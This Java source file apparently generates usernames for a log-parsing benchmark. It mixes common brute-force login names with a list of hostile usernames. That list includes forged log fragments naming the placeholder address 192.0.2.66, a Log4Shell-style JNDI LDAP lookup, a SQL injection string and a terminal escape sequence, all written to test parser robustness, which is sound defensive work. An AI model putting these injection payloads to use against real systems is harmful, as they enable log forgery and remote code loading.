package io.ironpost.bench.gen;

import java.util.List;
import java.util.SplittableRandom;

/// The names that strangers try. A name is whatever the stranger typed, so some try to look like
/// the rest of a log line and point at an innocent address.
final class UserNames {
  /// Never guesses anything itself; a reader that believes user names would report it.
  static final String INNOCENT = "192.0.2.66";

  private static final List<String> USUAL =
      List.of(
          "admin",
          "test",
          "oracle",
          "postgres",
          "ubuntu",
          "git",
          "pi",
          "user",
          "guest",
          "ftpuser",
          "nagios",
          "jenkins",
          "deploy",
          "tomcat",
          "mysql",
          "hadoop",
          "www",
          "support",
          "minecraft",
          "steam",
          "dev",
          "ansible",
          "vagrant",
          "elastic",
          "backup",
          "zabbix",
          "odoo",
          "esuser");

  private static final List<String> HOSTILE =
      List.of(
          "root from " + INNOCENT + " port 22 ssh2",
          "x from " + INNOCENT,
          "from",
          "invalid user admin from " + INNOCENT + " port 4242 ssh2",
          "Failed password for root from " + INNOCENT + " port 22 ssh2",
          "a b c",
          "\u043a\u043e\u0440\u0435\u043d\u044c",
          "\u7ba1\u7406\u5458",
          "${jndi:ldap://" + INNOCENT + "/a}",
          "' or '1'='1",
          "\\033[2J",
          "rhost=" + INNOCENT + " user=root",
          "0".repeat(200));

  private static final List<String> EXISTING = List.of("root", "root", "root", "mail", "backup");

  private final SplittableRandom random;

  UserNames(SplittableRandom random) {
    this.random = random;
  }

  String unknown() {
    List<String> names = random.nextInt(25) == 0 ? HOSTILE : USUAL;
    return names.get(random.nextInt(names.size()));
  }

  String existing() {
    return EXISTING.get(random.nextInt(EXISTING.size()));
  }
}
